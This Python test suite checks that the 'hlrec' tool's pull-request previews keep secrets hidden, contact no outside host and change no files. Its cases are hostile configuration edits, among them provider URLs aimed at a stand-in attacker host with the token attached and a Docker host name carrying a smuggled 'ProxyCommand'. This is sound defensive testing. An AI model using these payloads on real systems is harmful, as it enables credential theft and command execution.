#!/usr/bin/env python3
"""Previews of pull requests by people who mean harm. Each proposal is previewed as JSON, which has all, and as text or markdown; afterwards no secret stands in any
output or request, nobody but the base's own systems was asked for anything, they were only read, and no file has changed but the cache of git.

Proposals are previewed side by side. What must never happen is looked for in all that happens meanwhile, so a breach fails each proposal that was under way."""
import base64
import concurrent.futures
import difflib
import http.client
import http.server
import itertools
import json
import os
import queue
import re
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import git_server as gs  # noqa: E402
from lib import HLREC, Lab, Result, Tap, free_port, private_folder, stop_on_signals  # noqa: E402

LANES = 3
SHOWN_MOST = 8 << 20  # bytes that one preview prints
SECONDS_MOST = 30     # that it takes; ten times what it needs
BOTH = ("json", "human")
ALL = ("json", "human", "markdown")

SPEC = """\
hlrec: 1
stack: home
variables:
  domain: {default: base.test}
  nb_url: {default: "http://127.0.0.1:@RELAY@"}
  pw: {default: "${env.M_VARIABLE}", sensitive: true}
providers:
  docker: {host: "${env.HLREC_LAB_DOCKER}"}
  netbird: {url: "${var.nb_url}", token: "${env.M_TOKEN}"}
  traefik: {directory: "@OUTSIDE@/traefik"}
secrets:
  NB: {env: M_TOKEN}
  GEN: {generate: {length: 32}}
  ENV: {env: M_ENV}
  FILE: {file: file.txt}
  SOPS: {sops: {file: secrets.sops.yaml, key: VALUE}}
  CMD: {command: ["@OUTSIDE@/bin/tell"]}
  VAL: {value: "${setup_key.join.key}", write: [{dotenv: "@OUTSIDE@/app.env"}]}
networks: {net: {}}
volumes: {data: {}}
containers:
  web:
    image: nginx:1.27
    networks: [net]
    environment:
      GEN: "${secret.GEN}"
      ENV: "${secret.ENV}"
      PLAIN: "${env.M_PLAIN}"
      PW: "${var.pw}"
      OPEN: open
      DOMAIN: "${var.domain}"
    labels: {note: base}
    expose: ["80"]
    files: {/etc/app.conf: {template: app.conf, vars: {TOKEN: "${secret.FILE}"}}}
  db:
    image: postgres:16
    volumes: ["data:/data"]
    environment: {PASSWORD: "${secret.SOPS}", CMD: "${secret.CMD}"}
routers:
  app: {rule: "Host(`app.${var.domain}`)", service: {url: "http://web:80"}}
groups: {admins: {}}
setup_keys: {join: {type: reusable, expires_in: 30d, auto_groups: [admins]}}
outputs: {where: {value: "https://app.${var.domain}"}}
settings: {max_destroy: 5}
"""


def marker():
    return "mk" + secrets.token_hex(11)


class Canary:
    """Must never be spoken to. `visits` is what came."""

    def __init__(self):
        self.visits = []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.visits.append(connection.recv(65536))
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n[]")
                except OSError:
                    self.visits.append(b"")


class Relay(http.server.ThreadingHTTPServer):
    """Stands between hlrec and NetBird: notes what is asked, and can send elsewhere who asks, or answer with a text of its choice."""
    daemon_threads = True

    def __init__(self, target, elsewhere):
        self.target, self.elsewhere, self.requests, self.mode = target, elsewhere, [], "pass"
        super().__init__(("127.0.0.1", 0), Passing)
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Passing(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def handle_one(self):
        relay = self.server
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        relay.requests.append((self.command, self.path, body))
        if relay.mode == "redirect":
            self.answer(302, b"", {"Location": relay.elsewhere + self.path})
        elif relay.mode != "pass":
            self.answer(500, relay.mode.encode(), {"Content-Type": "application/json"})
        else:
            connection = http.client.HTTPConnection(relay.target, timeout=20)
            connection.request(self.command, self.path, body or None, {name: value for name, value in self.headers.items() if name.lower() not in ("host", "connection")})
            answer = connection.getresponse()
            self.answer(answer.status, answer.read(), {"Content-Type": answer.headers.get("Content-Type", "application/json")})
            connection.close()

    do_GET = do_HEAD = do_POST = do_PUT = do_DELETE = do_PATCH = handle_one

    def answer(self, status, body, headers):
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class World:
    """The agreed state of things: a repository, applied once from its branch main, in a lab."""

    def __init__(self, folder):
        self.markers = {name: marker() for name in ("token", "env", "plain", "variable", "file", "command", "sops", "unused", "foreign", "passwd", "shadow")}
        self.folder = os.path.join(folder, "work")
        self.outside = os.path.join(folder, "outside")
        for name in (self.folder, os.path.join(self.outside, "traefik"), os.path.join(self.outside, "bin")):
            os.makedirs(name)
        os.environ["HLREC_LAB_NETBIRD_TOKEN"] = self.markers["token"]
        self.canary = Canary()
        self.lab = Lab(os.path.join(folder, "lab"))
        self.relay = Relay(self.lab.environment["HLREC_LAB_NETBIRD"].removeprefix("http://"), self.canary.url)
        self.write_outside()
        self.environment = dict(os.environ, NO_COLOR="1", PATH=self.outside + "/bin:" + os.environ["PATH"], HLREC_LAB_DOCKER=self.lab.environment["HLREC_LAB_DOCKER"],
                                M_TOKEN=self.markers["token"], M_ENV=self.markers["env"], M_PLAIN=self.markers["plain"], M_VARIABLE=self.markers["variable"],
                                M_UNUSED=self.markers["unused"], M_FALSE="false", M_YES="true", M_LONG="x" * 300, M_TINY="x")
        self.repository = gs.Repository(os.path.join(folder, "repo.git"))
        self.url = "file://" + self.repository.path
        self.lanes = queue.Queue()
        for number in range(LANES):
            # Another address is another cache: one does not wait for the other's fetch.
            os.symlink(self.repository.path, os.path.join(folder, f"lane{number}.git"))
            self.lanes.put("file://" + os.path.join(folder, f"lane{number}.git"))
        self.spec = SPEC.replace("@RELAY@", str(self.relay.server_port)).replace("@OUTSIDE@", self.outside)
        self.files = {"hlrec.yaml": self.spec, "app.conf": "token = ${TOKEN}\n", "secrets.sops.yaml": "VALUE: ENC[x]\nsops: {version: 3}\n", "file.txt": self.markers["file"] + "\n"}
        self.base = self.repository.set("refs/heads/main", self.repository.commit(self.files))
        self.numbers, self.passing = itertools.count(1), []

    def write_outside(self):
        for name in ("command", "passwd", "shadow"):
            with open(os.path.join(self.outside, name + ".txt"), "w") as file:
                file.write(self.markers[name] + "\n")
        # Each run of one is a file that changes.
        for name, text in (("sops", "echo '{\"VALUE\": \"" + self.markers["sops"] + "\"}'"), ("tell", f"cat '{self.outside}/command.txt'")):
            path = os.path.join(self.outside, "bin", name)
            with open(path, "w") as file:
                file.write(f"#!/bin/sh\necho {name} >>'{self.outside}/ran'\n{text}\n")
            os.chmod(path, 0o755)

    def run(self, *arguments, environment=None, timeout=120, cwd=None):
        started = time.monotonic()
        done = subprocess.run([HLREC, *arguments], cwd=cwd or self.folder, env=dict(self.environment, **(environment or {})), stdin=subprocess.DEVNULL,
                              capture_output=True, timeout=timeout)
        result = Result(done.returncode, done.stdout.decode(errors="surrogateescape"), done.stderr.decode(errors="surrogateescape"))
        result.seconds = time.monotonic() - started
        return result

    def docker(self, path, body):
        subprocess.run(["curl", "-sf", "--unix-socket", self.lab.socket, "-H", "Content-Type: application/json", "-d", json.dumps(body), "http://localhost/v1.41" + path],
                       check=True, capture_output=True)

    def netbird(self, path, body):
        request = urllib.request.Request(self.lab.environment["HLREC_LAB_NETBIRD"] + path, method="POST", data=json.dumps(body).encode(),
                                         headers={"Authorization": "Token " + self.markers["token"], "Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=10) as answer:
            return json.load(answer)

    def apply(self):
        """What is agreed to is made, and something else is there already, with values of its own."""
        done = self.run("apply", "--git", self.url, "--ref", "main", "--yes")
        if done.status != 0:
            return done
        foreign = self.markers["foreign"]
        self.docker("/containers/create?name=foreign", {"Image": "nginx:1.27", "Hostname": foreign, "Cmd": [foreign], "Env": ["FOREIGN=" + foreign],
                                                        "Labels": {"note": foreign, "open": foreign}})
        self.netbird("/api/groups", {"name": "group-" + foreign})
        for name in ("GEN", "VAL"):
            self.markers[name] = self.run("secret", "show", name, "--reveal").out.strip()
        return done

    # ---- proposals ----

    def commit(self, files, parent=None):
        """A proposal on top of the base; None takes a file away. Gives its ref."""
        merged = {path: content for path, content in dict(self.files, **files).items() if content is not None}
        return self.point_at(self.repository.commit(merged, [parent or self.base]))

    def commit_for_once(self, files):
        ref = self.commit(files)
        self.passing.append(ref)
        return ref

    def forget(self):
        while self.passing:
            self.repository.delete(self.passing.pop())

    def point_at(self, commit):
        ref = f"refs/pull/{next(self.numbers)}/head"
        self.repository.set(ref, commit)
        return ref

    def changed(self, *pairs):
        """The base's spec with each (old, new) put in; what is not there is a mistake of the test."""
        spec = self.spec
        for old, new in pairs:
            if old not in spec:
                raise RuntimeError(f"the base has no {old!r}")
            spec = spec.replace(old, new, 1)
        return {"hlrec.yaml": spec}

    def preview(self, ref, *more, **keywords):
        lane = self.lanes.get()
        try:
            return self.run("plan", "--git", lane, "--ref", ref, "--preview", "--base", "main", *more, **keywords)
        finally:
            self.lanes.put(lane)

    # ---- what must hold ----

    def snapshot(self):
        found = {}
        for root in (self.folder, self.outside):
            for parent, folders, names in os.walk(root):
                if parent == os.path.join(self.folder, ".hlrec"):
                    folders[:] = [name for name in folders if name != "git"]
                for name in names:
                    path = os.path.join(parent, name)
                    with open(path, "rb") as file:
                        about = os.stat(path)
                        found[path] = (file.read(), about.st_mode, about.st_mtime_ns)
        return found

    def forms(self):
        """Each secret in the clear and as it may hide."""
        for name, value in self.markers.items():
            raw = value.encode()
            forms = {value, raw.hex(), urllib.parse.quote(value, safe=""), value[::-1]}
            forms.update(base64.b64encode(b"x" * shift + raw).decode()[4 if shift else 0:-4] for shift in range(3))
            yield name, forms

    def leaks(self, text):
        return sorted({name for name, forms in self.forms() for form in forms if form in text})


class Watch:
    """What happens between `with` and its end: `problems` says what must not."""

    def __init__(self, world):
        self.world, self.problems = world, []

    def __enter__(self):
        world = self.world
        self.calls, self.requests, self.visits, self.files = len(world.lab.calls()), len(world.relay.requests), len(world.canary.visits), world.snapshot()
        return self

    def __exit__(self, *failure):
        world = self.world
        if failure[0] is not None:
            return
        calls = world.lab.calls()[self.calls:]
        requests = world.relay.requests[self.requests:]
        for call in calls:
            if call["method"] not in ("GET", "HEAD"):
                self.problems.append(f"a request that changes something: {call}")
            if world.leaks(json.dumps(call)):
                self.problems.append(f"a secret in a request: {call}")
        for method, path, body in requests:
            if method not in ("GET", "HEAD") or body or world.leaks(path):
                self.problems.append(f"to NetBird: {method} {path} {body!r}")
        if len(world.canary.visits) != self.visits:
            self.problems.append(f"the stranger's host was asked: {world.canary.visits[self.visits:]}")
        files = world.snapshot()
        self.problems += [f"changed: {path}" for path in sorted(set(files) | set(self.files)) if files.get(path) != self.files.get(path)]


def unsafe_characters(text):
    """Control characters, escapes, marks of direction, and what has no width."""
    return sorted({f"U+{ord(c):04X}" for c in text if (ord(c) < 32 and c != "\n") or 127 <= ord(c) < 160 or c in "\u200b\u200c\u200d\u2060\ufeff\u00ad"
                   or "\u202a" <= c <= "\u202e" or "\u2066" <= c <= "\u2069" or c in "\u200e\u200f\u061c\u2028\u2029"})


class Proposal:
    """One that is being previewed; [format] waits for its result."""

    def __init__(self, name, future):
        self.name, self.future = name, future

    def problems(self):
        try:
            return self.future.result()[0]
        except Exception as problem:  # one that breaks the test must not hide the others
            return [repr(problem)]

    def __getitem__(self, form):
        return self.future.result()[1][form]


class Bench:
    """Where proposals are previewed, a few at a time; settle() waits for them, prints their points and forgets them."""

    def __init__(self, tap, world):
        self.tap, self.world, self.waiting, self.count = tap, world, [], 0
        self.pool = concurrent.futures.ThreadPoolExecutor(LANES)

    def add(self, name, work, *arguments):
        proposal = Proposal(f"{self.tap.section}: {name}", self.pool.submit(work, *arguments))
        self.waiting.append(proposal)
        return proposal

    def settle(self):
        section, self.tap.section = self.tap.section, ""
        for proposal in self.waiting:
            problems = proposal.problems()
            self.tap.point(not problems, proposal.name, "\n".join(problems)[:12000])
        self.tap.section, self.waiting = section, []
        self.world.forget()  # else each proposal from now on would be sent the former ones as well


def hostile(bench, world, name, files, ref=None, forms=None, **wanted):
    """One proposal: previewed in each of `forms`, and all that must hold."""
    bench.count += 1
    forms = forms or ("json", ("human", "markdown")[bench.count % 2])
    return bench.add(name, preview_hostile, world, files, ref, forms, wanted)


def preview_hostile(world, files, ref, forms, wanted):
    own = ref or world.commit_for_once(files)
    problems, results = [], {}
    for form in forms:
        results[form], found = preview_once(world, own, form, **wanted)
        problems += [f"{form}: {problem}" for problem in found]
    return problems, results


def preview_once(world, ref, form, wanted=(0,), has=(), lacks=(), more=(), environment=None):
    with Watch(world) as watch:
        result = world.preview(ref, "--format", form, "-v", *more, environment=environment)
    problems = watch.problems
    if result.status not in wanted:
        problems.append(f"exit {result.status}, wanted {wanted}\n{result.text[-3000:]}")
    leaked = world.leaks(result.text)
    if leaked:
        problems.append(f"LEAKED {leaked}\n{result.text[-6000:]}")
    if result.seconds > SECONDS_MOST:
        problems.append(f"took {result.seconds:.1f} s")
    if len(result.text) > SHOWN_MOST:
        problems.append(f"printed {len(result.text)} bytes")
    shown = json_text(result) if form == "json" else result.text
    if form != "markdown":  # which escapes what it shows
        problems += [f"lacks {text!r}\n{result.text[-3000:]}" for text in has if text not in shown]
    problems += [f"has {text!r}\n{result.text[-3000:]}" for text in lacks if text in result.text]
    unsafe = unsafe_characters(result.err if form == "json" else result.text)
    if unsafe:
        problems.append(f"{unsafe} in the output")
    if form == "json":
        try:
            json.loads(result.out)
        except ValueError as problem:
            problems.append(f"{problem}\n{result.text[-2000:]}")
    return result, problems


def json_text(result):
    """JSON with its escapes undone, so that texts can be looked for as they are."""
    try:
        return json.dumps(json.loads(result.out), ensure_ascii=False).replace('\\"', '"') + result.err
    except ValueError:
        return result.text


def alike(bench, world, name, first, second, forms=("json",)):
    """Two proposals that differ in a guess give the same output but for the guess itself."""
    return bench.add(name, compare, world, first, second, forms)


def compare(world, first, second, forms):
    texts = [texts_without_guess(world, files, guess, forms) for files, guess in (first, second)]
    return list(difflib.unified_diff(texts[0].splitlines(), texts[1].splitlines(), lineterm="", n=1)), None


def texts_without_guess(world, files, guess, forms):
    text = []
    ref = world.commit_for_once(files)
    for form in forms:
        with Watch(world) as watch:
            result = world.preview(ref, "--format", form, "-v")
        plain = re.sub(r"lane\d|refs/pull/\d+/head|[0-9a-f]{40}|@ [0-9a-f]{7}\b|read in [0-9.]+ s|\"elapsed_ms\": \d+|\d+ ms", "", result.text)
        for spelling in (guess, guess.lower(), base64.b64encode(guess.encode()).decode()):
            plain = plain.replace(spelling, "GUESS")
        text.append(f"{form} {result.status} {watch.problems}\n" + re.sub(r" +", " ", plain))
    return "\n".join(text)


# ---- the honest proposal, first: what the others are measured by ----


def honest(tap, world, bench):
    tap.section = "honest"
    hostile(bench, world, "nothing changes: no changes", {"notes.txt": "x"})
    result = world.preview(world.commit({"notes.txt": "x"}))
    tap.point("No changes." in result.out, "and that is said", result.text)
    both = hostile(bench, world, "an image changes", world.changed(("nginx:1.27", "nginx:1.28")), forms=BOTH)
    tap.point("nginx:1.27" in both["human"].out and "REPLACE  container.web" in both["human"].out, "before and after are shown", both["human"].text)
    both = hostile(bench, world, "a container is added", world.changed(("  db:\n", "  new: {image: 'redis:7', environment: {A: '${secret.ENV}'}}\n  db:\n")), forms=BOTH)
    tap.point("CREATE   container.new" in both["human"].out, "and shown", both["human"].text)
    result = world.preview(world.commit({"hlrec.yaml": world.spec.replace("  web:\n", "  site:\n    container_name: web\n") + "moved: [{from: container.web, to: container.site}]\n"}))
    tap.point("MOVE     container.site" in result.out and "1 to create" not in result.out, "a move is a move", result.text)
    result = world.preview(world.commit(world.changed(('  ENV: {env: M_ENV}\n', '  ENV: {env: M_ENV}\n  NEXT: {env: M_UNUSED}\n'), ('ENV: "${secret.ENV}"', 'ENV: "${secret.NEXT}"'))))
    tap.point("environment.ENV" in result.out and "not used: secrets.NEXT is added" in result.out, "another secret is told, and not looked at", result.text)


# ---- the token and its way out ----


def providers(tap, world, bench):
    tap.section = "providers"
    canary = world.canary.url
    hostile(bench, world, "the address of a provider leads to a stranger", world.changed(('{url: "${var.nb_url}"', f'{{url: "{canary}"')), has=("providers.netbird",))
    hostile(bench, world, "so does the default of the variable that it is made of", world.changed((f"http://127.0.0.1:{world.relay.server_port}", canary)), has=("variables.nb_url",))
    hostile(bench, world, "and the variable, when something else has its name", world.changed(('  nb_url: {', '  old_url: {'), ("variables:\n", f'x-bait: &bait {{default: "{canary}"}}\nvariables:\n  nb_url: *bait\n')),
            has=("variables.nb_url",))
    hostile(bench, world, "a new instance at a stranger's, with the token", world.changed(("  traefik: {", f'  evil: {{type: netbird, url: "{canary}", token: "${{secret.NB}}"}}\n  traefik: {{'),
                                                                                        ("groups: {admins: {}}", "groups: {admins: {}, mine: {provider: evil}}")), has=("providers.evil", "group.mine"))
    hostile(bench, world, "what exists is given to the new instance", world.changed(("  traefik: {", f'  evil: {{type: netbird, url: "{canary}", token: "${{secret.NB}}"}}\n  traefik: {{'),
                                                                                 ("groups: {admins: {}}", "groups: {admins: {provider: evil}}"), ("type: reusable", "provider: netbird, type: reusable")), wanted=(0, 3, 8))
    hostile(bench, world, "the type of an instance changes", world.changed(('netbird: {url: "${var.nb_url}", token: "${env.M_TOKEN}"}', f'netbird: {{type: docker, host: "tcp://127.0.0.1:{world.canary.port}"}}')), has=("providers.netbird",))
    hostile(bench, world, "Docker's host changes", world.changed(('"${env.HLREC_LAB_DOCKER}"', f'"tcp://127.0.0.1:{world.canary.port}"')), has=("providers.docker",))
    hostile(bench, world, "Docker through ssh, with a command in the host's name", world.changed(('"${env.HLREC_LAB_DOCKER}"', '"ssh://-oProxyCommand=touch /tmp/x"')), has=("providers.docker",))
    hostile(bench, world, "Traefik's folder and API change", world.changed((f'"{world.outside}/traefik"', f'/etc, api: "{canary}"')), has=("providers.traefik",))
    hostile(bench, world, "a provider comes from an anchor", world.changed(("providers:\n", f'x-p: &p {{url: "{canary}"}}\nproviders:\n'), ('netbird: {url: "${var.nb_url}", ', 'netbird: {<<: *p, ')), has=("providers.netbird",))
    hostile(bench, world, "providers are no mapping", {"hlrec.yaml": re.sub(r"providers:\n(  .*\n)+", "providers: none\n", world.spec)}, has=("providers.netbird",))
    hostile(bench, world, "a store of secrets at a stranger's", world.changed(("  traefik: {", f'  infisical: {{url: "{canary}", project: p, environment: e, client_id: "${{secret.ENV}}", client_secret: "${{secret.NB}}"}}\n  traefik: {{'),
                                                                           ("  NB: {env: M_TOKEN}\n", "  NB: {infisical: {path: /x}}\n  OUT: {env: M_ENV, write: [{infisical: {path: /y}}]}\n")), has=("secrets.NB", "secrets.OUT"))
    hostile(bench, world, "an image of a stranger's registry", world.changed(("nginx:1.27", f"127.0.0.1:{world.canary.port}/x:1")))
    bench.settle()
    world.relay.mode = "redirect"
    hostile(bench, world, "the real host sends hlrec to a stranger", {"notes.txt": "r"}, wanted=(7,))
    bench.settle()
    world.relay.mode = json.dumps({"message": f"token {world.markers['token']} of {world.markers['GEN']} is wrong", "code": 500})
    hostile(bench, world, "the real host repeats a secret in its error", {"notes.txt": "r2"}, wanted=(7,))
    bench.settle()
    world.relay.mode = "pass"


# ---- secrets into sight ----


def visible_places(tap, world, bench):
    tap.section = "into sight"
    every = "${secret.GEN}-${secret.ENV}-${secret.FILE}-${secret.SOPS}-${secret.CMD}-${secret.VAL}-${secret.NB}-${env.M_UNUSED}-${env.M_PLAIN}-${var.pw}-${setup_key.join.key}"
    web = "    image: nginx:1.27\n"
    for place, line in {"a label": f'labels: {{a: "{every}"}}', "the command": f'command: ["sh", "-c", "{every}"]', "the entry point": f'entrypoint: "{every}"', "the name": f'container_name: "{every}"',
                        "the host name": f'hostname: "{every}"', "the description": f'description: "{every}"', "the image": f'image: "{every}"', "the restart policy": f'restart: "{every}"', "the user": f'user: "{every}"',
                        "the memory": f'mem_limit: "{every}"', "a port": f'ports: ["{every}:80"]', "a bind": f'volumes: ["{every}:/x"]', "an extra host": f'extra_hosts: {{x: "{every}"}}', "a health check": f'healthcheck: {{test: "{every}"}}',
                        "a network": f'network_mode: "{every}"', "a number": 'pids_limit: "${secret.GEN}"', "a boolean": 'tty: "${env.M_UNUSED}"', "what is waited for": f'needs: ["{every}"]', "the condition": f'when: "{every}"',
                        "what is ignored": f'ignore: ["{every}"]', "what is adopted": f'adopt: "{every}"', "the time limit": f'timeout: "{every}"', "the provider": f'provider: "{every}"', "an unknown key": f'colour: "{every}"'}.items():
        name = line.split(":")[0]
        own = world.spec.replace("    labels: {note: base}\n", "") if name == "labels" else world.spec
        own = own.replace(web, f"    {line}\n") if name == "image" else own.replace(web, web + f"    {line}\n")
        hostile(bench, world, f"in {place} of a container", {"hlrec.yaml": own}, wanted=(0, 3, 8))
        fresh = world.spec.replace("  db:\n", f"  fresh:\n{'' if name == 'image' else web}    {line}\n  db:\n", 1)
        hostile(bench, world, f"in {place} of a new one", {"hlrec.yaml": fresh}, wanted=(0, 3, 8))
    hostile(bench, world, "in a container's address", world.changed(("  db:\n", f'  "{every}": {{image: x}}\n  db:\n')), wanted=(3,))
    hostile(bench, world, "in the environment, where it is not a secret's name", world.changed(("OPEN: open", f'OPEN: "{every}"')))
    hostile(bench, world, "in a rule", world.changed(("Host(`app.${var.domain}`)", f"Host(`{every}.x`)")), wanted=(0, 3, 8))
    hostile(bench, world, "in the address of a service", world.changed(("http://web:80", f"{world.canary.url}/{every}")), wanted=(0, 3, 8))
    for what, section in {"a route": f'routes: {{r: {{network_id: "{every}", network: 10.9.0.0/24, peer: "{every}", groups: [admins]}}}}', "a route's domains": f'routes: {{r: {{domains: ["{every}.example.org"], peer: x, groups: [admins]}}}}',
                          "a policy": f'policies: {{p: {{description: "{every}", rules: [{{sources: [admins], destinations: ["{every}"]}}]}}}}', "a name server": f'nameservers: {{n: {{servers: ["{world.canary.url}/{every}"], domains: ["{every}"], groups: [admins]}}}}',
                          "a header": f'middlewares: {{m: {{headers: {{customRequestHeaders: {{X: "{every}"}}}}}}}}', "a setup key": f'setup_keys: {{k: {{type: "{every}", auto_groups: ["{every}"]}}, join: {{type: reusable}}}}'}.items():
        hostile(bench, world, f"in {what}", {"hlrec.yaml": (re.sub(r"setup_keys: .*\n", "", world.spec) if "a setup key" == what else world.spec) + section + "\n"}, wanted=(0, 3, 8))
    hostile(bench, world, "in a group's name", world.changed(("groups: {admins: {}}", f'groups: {{admins: {{}}, "{every}": {{}}}}')), wanted=(3,))
    hostile(bench, world, "in an output", world.changed(("https://app.${var.domain}", every)))
    hostile(bench, world, "in an output that is a mapping", world.changed(('outputs: {where: {value: "https://app.${var.domain}"}}', f'outputs: {{where: "{every}", more: {{value: {{a: ["{every}"]}}, sensitive: false}}}}')))
    hostile(bench, world, "through a template", dict(world.changed(("template: app.conf, vars: {TOKEN: \"${secret.FILE}\"}", f'template: app.conf, vars: {{TOKEN: "{every}"}}')), **{"app.conf": f"{every} ${{TOKEN}}\n"}))
    hostile(bench, world, "through a template with mistakes", {"app.conf": f"{every} ${{secret.NONE}} ${{TOKEN}}\n${{env.}}\n"}, wanted=(0, 3))
    hostile(bench, world, "through a variable's default", world.changed(("  domain: {default: base.test}", '  domain: {default: base.test}\n  bait: {default: "${env.M_UNUSED}-${env.M_PLAIN}"}'), ("note: base", 'note: "${var.bait}"')))
    hostile(bench, world, "through a variable that the base has as sensitive, and this has not", world.changed(('{default: "${env.M_VARIABLE}", sensitive: true}', '{default: "${env.M_VARIABLE}", sensitive: false}'), ("note: base", 'note: "${var.pw}"')), has=("variables.pw",))
    hostile(bench, world, "through a variable that is given on the command line", world.changed(("note: base", 'note: "${var.pw}"')), more=("--var", "pw=" + world.markers["unused"]))
    hostile(bench, world, "with a fallback", world.changed(("note: base", 'note: "${env.M_UNUSED:-x}${env.M_NONE:-y}"')))
    hostile(bench, world, "in a volume's and a network's settings", world.changed(("volumes: {data: {}}", f'volumes: {{data: {{labels: {{a: "{every}"}}}}}}'), ("networks: {net: {}}", f'networks: {{net: {{labels: {{a: "{every}"}}}}}}')), wanted=(0, 3, 8))
    hostile(bench, world, "of a secret whose source is a guess", world.changed(("  ENV: {env: M_ENV}", f'  ENV: {{value: "{every}"}}')), has=("secrets.ENV",))


# ---- guesses ----


def guesses(tap, world, bench):
    tap.section = "guess"
    for source in ("GEN", "env", "plain", "variable", "file", "sops", "command", "VAL", "token"):
        right = world.markers[source]
        wrong = ("A" if right[0] != "A" else "B") + right[1:-1] + ("0" if right[-1] != "0" else "1")
        for place, pairs in {"where the secret stands": lambda guess: (('GEN: "${secret.GEN}"', f'GEN: "{guess}"'), ('ENV: "${secret.ENV}"', f'ENV: "{guess}"'), ('PLAIN: "${env.M_PLAIN}"', f'PLAIN: "{guess}"'), ('PW: "${var.pw}"', f'PW: "{guess}"'),
                                                                       ('PASSWORD: "${secret.SOPS}"', f'PASSWORD: "{guess}"'), ('CMD: "${secret.CMD}"', f'CMD: "{guess}"'), ('{TOKEN: "${secret.FILE}"}', f'{{TOKEN: "{guess}"}}')),
                             "elsewhere": lambda guess: (("note: base", f"note: '{guess}', b64: '{base64.b64encode(guess.encode()).decode()}'"), ("OPEN: open", f"OPEN: 'x{guess}x'")),
                             "in something new": lambda guess: (("  db:\n", f"  fresh: {{image: '{guess.lower()}', environment: {{A: '{guess}'}}, description: '{guess}'}}\n  db:\n"),),
                             "in a mistake": lambda guess: (("    labels: {note: base}\n", f"    labels: {{note: base}}\n    '{guess}': '{guess}'\n    restart: '{guess}'\n"),),
                             "in a name that is not used": lambda guess: (("  ENV: {env: M_ENV}", f"  ENV: {{env: M_ENV}}\n  N{guess}: {{value: '{guess}'}}"), ("  domain: {default", f"  v{guess}: {{default: '{guess}'}}\n  domain: {{default"))}.items():
            alike(bench, world, f"the value of {source} {place} looks like any other", (world.changed(*pairs(right)), right), (world.changed(*pairs(wrong)), wrong),
                  forms=BOTH if place == "where the secret stands" else ("json",))
    right, wrong = world.markers["foreign"], marker()
    alike(bench, world, "a value of somebody else's object", (world.changed(("OPEN: open", f"OPEN: '{right}'")), right), (world.changed(("OPEN: open", f"OPEN: '{wrong}'")), wrong))
    alike(bench, world, "the name of somebody else's group", (world.changed(("groups: {admins: {}}", f"groups: {{admins: {{}}, 'group-{right}': {{}}}}")), right), (world.changed(("groups: {admins: {}}", f"groups: {{admins: {{}}, 'group-{wrong}': {{}}}}")), wrong))
    alike(bench, world, "the name of somebody else's container", (world.changed(("  db:\n", "  foreign: {image: x}\n  db:\n")), "foreign"), (world.changed(("  db:\n", "  foreigm: {image: x}\n  db:\n")), "foreigm"))
    when = lambda value: world.changed(("  db:\n", f'  fresh: {{image: x, when: "${{{value}}}"}}\n  db:\n'))  # noqa: E731
    alike(bench, world, "whether a variable of the environment is true", (when("env.M_FALSE"), "M_FALSE"), (when("env.M_YES"), "M_YES"))
    alike(bench, world, "whether it is there at all", (when("env.M_YES"), "M_YES"), (when("env.M_NO"), "M_NO"))
    alike(bench, world, "how long it is", (world.changed(("    expose", '    hostname: "${env.M_LONG}"\n    expose')), "M_LONG"), (world.changed(("    expose", '    hostname: "${env.M_TINY}"\n    expose')), "M_TINY"))
    # With and without one more reference each is named once more; only its length could tell them apart.
    for name in ("GEN", "FILE"):
        long = world.preview(world.commit(world.changed(("    expose", f'    hostname: "${{secret.{name}}}${{secret.{name}}}${{secret.{name}}}"\n    expose'))))
        short = world.preview(world.commit(world.changed(("    expose", f'    hostname: "${{secret.{name}}}"\n    expose'))))
        shown = [re.findall(r"hostname.*", result.out) for result in (long, short)]
        tap.equal((long.status, shown[0]), (short.status, shown[1]), f"how long {name} is", long.text)
    literal = world.preview(world.commit(world.changed(('GEN: "${secret.GEN}"', 'GEN: "$${secret.GEN}"'))))
    tap.point("environment.GEN" in literal.out, "the text '${secret.X}' is not the secret", literal.text)
    literal = world.preview(world.commit(world.changed(('GEN: "${secret.GEN}"', 'GEN: "$${secret.GEN.value}"'))))
    tap.point("environment.GEN" in literal.out, "nor is what stands for it within", literal.text)
    literal = world.preview(world.commit(world.changed(('PLAIN: "${env.M_PLAIN}"', 'PLAIN: "$${env.M_PLAIN}"'))))
    tap.point("environment.PLAIN" in literal.out, "nor that for the environment", literal.text)
    # What the image or somebody else put there is not for guessing either.
    alike(bench, world, "whether a port is exposed that the base does not name", (world.changed(('expose: ["80"]', 'expose: ["80", "443"]')), "443"), (world.changed(('expose: ["80"]', 'expose: ["80", "444"]')), "444"))


# ---- objects that are none of its business ----


def reach(tap, world, bench):
    tap.section = "reach"
    foreign = subprocess.run(["curl", "-s", "--unix-socket", world.lab.socket, "http://localhost/v1.41/containers/foreign/json"], capture_output=True, text=True).stdout
    identity = json.loads(foreign)["Id"]
    for what, adopt in (("its id", identity), ("its name", "foreign"), ("true", "true")):
        hostile(bench, world, f"another's container is to be adopted, by {what}", world.changed(("  db:\n", f"  foreign: {{image: 'nginx:1.27', adopt: {adopt}, hostname: x, environment: {{FOREIGN: x}}, labels: {{note: x}}}}\n  db:\n")), wanted=(0, 8), has=("container.foreign.adopt",))
    hostile(bench, world, "a container of the base takes another's place", world.changed(("    image: nginx:1.27\n", f"    image: nginx:1.27\n    container_name: foreign\n    adopt: {identity}\n    hostname: x\n")), wanted=(0, 8), has=("container.web.adopt",))
    hostile(bench, world, "live values are asked for that the base does not name", world.changed(("    labels: {note: base}\n", "    labels: {note: base, hlrec.id: x, hlrec.stack: x, maintainer: x}\n    hostname: x\n    restart: always\n    command: [x]\n    entrypoint: [x]\n")), wanted=(0, 3, 8))
